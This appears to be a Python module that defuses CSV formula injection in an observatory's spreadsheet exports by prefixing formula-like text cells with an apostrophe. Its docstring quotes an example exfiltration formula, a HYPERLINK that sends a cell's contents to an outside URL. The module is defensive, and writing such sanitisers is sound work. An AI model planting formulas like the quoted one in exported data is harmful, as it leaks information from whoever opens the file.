"""Cells of the CSV files people open in a spreadsheet, made inert.

A cell that starts with `=`, `+`, `-`, `@` (or a tab / carriage return before them) is a formula for
Excel and LibreOffice: `=HYPERLINK("https://…?"&A2, "voir")` typed into the assistant would send
data away when a coordinator opens the observatory's export. Such text cells get a leading `'`
(OWASP's advice), which spreadsheets show as plain text; numbers, and text that is just a number
(« -1,8806 », a longitude), are left as they are.
"""
import re
from typing import Any, Iterable, List

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms


NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def inert(value: Any) -> Any:
    """The value, with a `'` in front if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
        return "'" + value
    return value


def inert_row(row: Iterable[Any]) -> List[Any]:
    return [inert(value) for value in row]
